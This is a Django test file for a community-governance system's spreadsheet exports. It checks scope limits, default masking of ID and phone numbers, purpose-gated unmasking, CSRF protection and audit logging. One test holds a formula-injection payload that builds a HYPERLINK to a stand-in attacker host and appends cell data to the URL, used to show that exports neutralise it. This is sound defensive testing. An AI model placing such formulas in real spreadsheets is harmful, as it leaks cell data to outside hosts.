"""Exports: only in-scope rows, masked by default, unmasked only with the right and a purpose, audited."""

from __future__ import annotations

import datetime as dt
import io

from django.test import Client
from django.urls import reverse

from gridgov.accounts.models import Role
from gridgov.accounts.scope import SYSTEM
from gridgov.accounts.services import role_grant, user_create
from gridgov.accounts.tests.apiclient import as_
from gridgov.audit.models import AuditAction, AuditEntry
from gridgov.people.services import floating_register

ZHANG_ID, ZHANG_PHONE = "430102195001010018", "13812345678"
LI_ID = "430102198002020027"


def rows_of(response) -> list[tuple]:
    from openpyxl import load_workbook

    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return list(sheet.iter_rows(values_only=True))


def client_for(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def last_export() -> AuditEntry | None:
    return AuditEntry.objects.filter(action=AuditAction.EXPORT).order_by("-id").first()


def test_resident_export_is_masked_by_default_and_audited(world):
    rows = rows_of(client_for(world.carol).post(reverse("transfer:export", args=["residents"])))
    header, *data = rows
    assert header[6] == "姓名" and header[8] == "身份证号" and header[9] == "手机号"
    by_name = {row[6]: row for row in data}
    assert set(by_name) == {"张建国", "李秀英"}
    assert by_name["张建国"][8] == "**************0018" and by_name["张建国"][9] == "*******5678"
    assert by_name["张建国"][:5] == ("第一网格", "聚江苑", "1栋", None, "101")
    assert ZHANG_ID not in str(rows)
    entry = last_export()
    assert entry.actor == world.carol and entry.purpose == ""
    assert entry.changes == {"list": "residents", "filters": {}, "rows": 2, "masked": True}


def test_unmasked_needs_a_purpose_then_shows_full_numbers(world):
    client = client_for(world.carol)
    refused = client.post(reverse("transfer:export", args=["residents"]), {"unmasked": "1"})
    assert refused.status_code == 400 and "导出完整身份证号和手机号须填写用途" in refused.content.decode()
    assert last_export() is None
    rows = rows_of(
        client.post(
            reverse("transfer:export", args=["residents"]), {"unmasked": "1", "purpose": "入户走访核对"}
        )
    )
    by_name = {row[6]: row for row in rows[1:]}
    assert (by_name["张建国"][8], by_name["张建国"][9]) == (ZHANG_ID, ZHANG_PHONE)
    entry = last_export()
    assert entry.changes["masked"] is False and entry.purpose == "入户走访核对"


def test_export_contains_only_in_scope_rows_and_honours_filters(world):
    client = client_for(world.frank)  # 网格长 of grid 1: export + PII there
    rows = rows_of(client.get(reverse("transfer:export", args=["residents"])))
    assert [row[6] for row in rows[1:]] == ["张建国"]
    unmasked = rows_of(
        client.post(reverse("transfer:export", args=["residents"]), {"unmasked": "1", "purpose": "核对"})
    )
    assert unmasked[1][8] == ZHANG_ID
    assert (
        client.get(reverse("transfer:export", args=["residents"]), {"place": world.grid2.pk}).status_code
        == 404
    )
    # The search box works in the export too, and an ID searched for is masked in the audit row.
    carol = client_for(world.carol)
    found = rows_of(carol.get(reverse("transfer:export", args=["residents"]), {"q": LI_ID}))
    assert [row[6] for row in found[1:]] == ["李秀英"]
    assert last_export().changes["filters"]["q"] == "**************0027"


def test_unmasked_refused_without_pii_right_everywhere(world):
    worker = user_create(by=SYSTEM, username="wu", password=world.password, validate=False)
    role_grant(by=SYSTEM, user=worker, role=Role.objects.get(code="community_worker"), place=world.community)
    response = client_for(worker).post(
        reverse("transfer:export", args=["residents"]), {"unmasked": "1", "purpose": "核对"}
    )
    assert response.status_code == 403 and "只能导出脱敏数据" in response.content.decode()
    # PII right only in grid 1 while exporting the whole community: refused; grid 1 alone: fine.
    role_grant(by=SYSTEM, user=worker, role=Role.objects.get(code="grid_head"), place=world.grid1)
    client = client_for(worker)
    mixed = client.post(reverse("transfer:export", args=["residents"]), {"unmasked": "1", "purpose": "核对"})
    assert mixed.status_code == 403 and "无权查看完整信息" in mixed.content.decode()
    grid1 = client.post(
        reverse("transfer:export", args=["residents"]),
        {"unmasked": "1", "purpose": "核对", "place": world.grid1.pk},
    )
    assert rows_of(grid1)[1][8] == ZHANG_ID
    assert AuditEntry.objects.filter(action=AuditAction.EXPORT).count() == 1


def test_no_export_right_is_403(world):
    for persona in ("alice", "dave", "erin"):
        response = client_for(getattr(world, persona)).get(reverse("transfer:export", args=["residents"]))
        assert response.status_code == 403
    assert last_export() is None


def test_household_and_floating_exports(world):
    floating_register(
        by=SYSTEM,
        resident=world.li,
        origin="湖南省邵阳市",
        household=world.household2,
        registered_on=dt.date(2024, 3, 1),
        expected_until=dt.date(2026, 3, 1),
    )
    client = client_for(world.carol)
    households = rows_of(client.get(reverse("transfer:export", args=["households"])))
    assert households[0][:5] == ("网格", "小区", "楼栋", "单元", "房号")
    assert {row[4]: (row[7], row[8], row[9]) for row in households[1:]} == {
        "101": (1, "张建国", "*******5678"),
        "202": (1, "李秀英", "*******4321"),
    }
    floating = rows_of(client.get(reverse("transfer:export", args=["floating"])))
    assert (
        floating[1][0] == "李秀英"
        and floating[1][2] == "**************0027"
        and floating[1][6] == "湖南省邵阳市"
    )
    assert rows_of(client_for(world.frank).get(reverse("transfer:export", args=["floating"])))[1:] == []
    assert [entry.changes["list"] for entry in AuditEntry.objects.filter(action=AuditAction.EXPORT)] == [
        "floating",
        "floating",
        "households",
    ]


def test_api_exports(world):
    api = as_(world, "frank")
    rows = rows_of(api.get("/api/v1/exports/residents"))
    assert [row[6] for row in rows[1:]] == ["张建国"] and rows[1][8].startswith("*")
    assert (
        rows_of(api.post("/api/v1/exports/residents", {"unmasked": True, "purpose": "核对"}))[1][8]
        == ZHANG_ID
    )
    missing = api.post("/api/v1/exports/residents", {"unmasked": True})
    assert missing.status_code == 400 and missing.json()["errors"][0]["field"] == "purpose"
    assert api.get("/api/v1/exports/households", {"place": world.grid2.pk}).status_code == 404
    assert as_(world, "alice").get("/api/v1/exports/residents").status_code == 403
    assert as_(world, None).get("/api/v1/exports/residents").status_code == 401
    carol = as_(world, "carol")
    assert len(rows_of(carol.get("/api/v1/exports/households"))) == 3
    assert rows_of(carol.get("/api/v1/exports/floating", {"active": "all"})) == [
        rows_of(carol.get("/api/v1/exports/floating"))[0]
    ]
    assert carol.get("/api/v1/exports/floating", {"active": "maybe"}).status_code == 422


def test_unmasked_exports_are_post_only(world):
    """A link (GET) can never produce the full numbers: in logs, in history, or from another site."""
    client = client_for(world.frank)
    url = reverse("transfer:export", args=["residents"])
    linked = rows_of(client.get(url, {"unmasked": "1", "purpose": "核对"}))
    assert linked[1][8] == "**************0018" and ZHANG_ID not in str(linked)
    assert last_export().changes["masked"] is True and last_export().purpose == ""
    api = as_(world, "frank")
    for what in ("residents", "households", "floating"):
        rows = rows_of(api.get(f"/api/v1/exports/{what}", {"unmasked": "true", "purpose": "核对"}))
        assert ZHANG_ID not in str(rows) and ZHANG_PHONE not in str(rows)
    assert AuditEntry.objects.filter(action=AuditAction.EXPORT, changes__masked=False).count() == 0
    # The page's POST is CSRF-checked like every form.
    strict = Client(enforce_csrf_checks=True)
    strict.force_login(world.frank)
    assert strict.post(url, {"unmasked": "1", "purpose": "核对"}).status_code == 403
    page = client.get(reverse("transfer:index")).content.decode()
    assert 'method="post" action="/transfer/exports/residents/"' in page and "csrfmiddlewaretoken" in page


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'


def test_user_text_is_written_as_text_never_a_formula(world):
    """A grid worker names a resident =HYPERLINK(…); the grid head's export holds text, not a formula."""
    from openpyxl import load_workbook

    from gridgov.people.models import Resident

    Resident.objects.filter(pk=world.zhang.pk).update(name=FORMULA, employment="+86 加班", notes="@SUM(1)\t")
    response = client_for(world.carol).post(reverse("transfer:export", args=["residents"]))
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    row = next(r for r in sheet.iter_rows(min_row=2) if "HYPERLINK" in str(r[6].value))
    name, employment, notes = row[6], row[14], row[17]
    assert name.value == "'" + FORMULA and name.data_type == "s"
    assert employment.value == "'+86 加班" and employment.data_type == "s"
    assert notes.value.startswith("'@SUM") and notes.data_type == "s"
    assert all(cell.data_type != "f" for r in sheet.iter_rows() for cell in r)


def test_stored_control_characters_do_not_break_exports(world):
    """Rows stored before the boundary refused them: the export strips what a file cannot hold."""
    from django.db import connection

    from gridgov.people.models import Resident

    # PostgreSQL itself refuses NUL in text, so only SQLite can hold that one from older data.
    nul = "\x00" if connection.vendor == "sqlite" else "\x08"
    Resident.objects.filter(pk=world.zhang.pk).update(name=f"张{nul}建\x07国", notes="第一行\n第二行\x1b")
    rows = rows_of(client_for(world.carol).post(reverse("transfer:export", args=["residents"])))
    by_name = {row[6]: row for row in rows[1:]}
    assert "张建国" in by_name and by_name["张建国"][17] == "第一行\n第二行"
